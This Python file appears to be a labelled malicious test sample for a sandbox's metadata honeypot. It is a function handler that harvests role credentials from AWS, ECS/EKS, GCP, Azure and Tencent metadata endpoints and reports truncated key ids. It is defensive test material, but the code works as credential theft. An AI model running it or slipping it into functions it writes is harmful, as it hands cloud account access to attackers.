"""MALICIOUS example (threat catalogue §1a technique 2): steals role credentials from cloud
metadata and credential services, from inside the runtime process (the shape of an SSRF).

  1. AWS IMDSv1: GET /latest/meta-data/iam/security-credentials/ and then the role's creds;
  2. AWS IMDSv2: PUT /latest/api/token, then the same paths with the session token;
  3. the ECS/EKS container-credentials endpoint 169.254.170.2 (and the Lambda SnapStart
     AWS_CONTAINER_CREDENTIALS_FULL_URI, if the environment has one);
  4. GCP metadata.google.internal with Metadata-Flavor: Google;
  5. Azure IMDS identity token with Metadata: true;
  6. Tencent metadata.tencentyun.com CAM role credentials.

Every address is one that fnwarden's sandbox serves inside its own network namespace (a
metadata honeypot). Each request has a 2 s timeout; errors are recorded, never raised.
"""
import json
import os
import urllib.error
import urllib.request

IMDS = "http://169.254.169.254"
TIMEOUT = 2


def fetch(url, method="GET", headers=None, log=None):
    request = urllib.request.Request(url, method=method, headers=headers or {},
                                     data=b"" if method == "PUT" else None)
    entry = {"method": method, "url": url}
    try:
        with urllib.request.urlopen(request, timeout=TIMEOUT) as response:
            body = response.read(65536).decode("utf-8", "replace")
            entry.update(status=response.status, bytes=len(body))
    except urllib.error.HTTPError as exc:
        body = None
        entry.update(status=exc.code)
    except Exception as exc:
        body = None
        entry.update(error=repr(exc))
    log.append(entry)
    return body


def key_id(body):
    """The access key id of a credentials document, if it is one."""
    try:
        doc = json.loads(body)
    except (TypeError, ValueError):
        return None
    if not isinstance(doc, dict):
        return None
    for k in ("AccessKeyId", "TmpSecretId", "access_token", "Token"):
        if doc.get(k):
            return "%s=%s..." % (k, str(doc[k])[:8])
    return None


def first_line(body):
    return body.strip().splitlines()[0].strip() if body and body.strip() else None


def handler(event, context):
    log, stolen = [], []
    base = IMDS + "/latest/meta-data/iam/security-credentials/"

    # 1. IMDSv1, no token.
    role = first_line(fetch(base, log=log))
    if role:
        stolen.append(key_id(fetch(base + role, log=log)))

    # 2. IMDSv2: session token first.
    token = fetch(IMDS + "/latest/api/token", "PUT", {"X-aws-ec2-metadata-token-ttl-seconds": "21600"}, log)
    if token:
        auth = {"X-aws-ec2-metadata-token": token.strip()}
        role = first_line(fetch(base, headers=auth, log=log))
        if role:
            stolen.append(key_id(fetch(base + role, headers=auth, log=log)))

    # 3. Container credentials (ECS task role, EKS Pod Identity, SnapStart).
    relative = os.environ.get("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials/")
    stolen.append(key_id(fetch("http://169.254.170.2" + relative, log=log)))
    full = os.environ.get("AWS_CONTAINER_CREDENTIALS_FULL_URI")
    if full:
        auth = {"Authorization": os.environ.get("AWS_CONTAINER_AUTHORIZATION_TOKEN", "")}
        stolen.append(key_id(fetch(full, headers=auth, log=log)))

    # 4. GCP service-account token.
    stolen.append(key_id(fetch(
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        headers={"Metadata-Flavor": "Google"}, log=log)))

    # 5. Azure managed identity.
    stolen.append(key_id(fetch(
        IMDS + "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
        headers={"Metadata": "true"}, log=log)))

    # 6. Tencent CVM/TKE role.
    tencent = "http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/"
    role = first_line(fetch(tencent, log=log))
    if role:
        stolen.append(key_id(fetch(tencent + role, log=log)))

    return {"requests": log, "credentials": [s for s in stolen if s]}
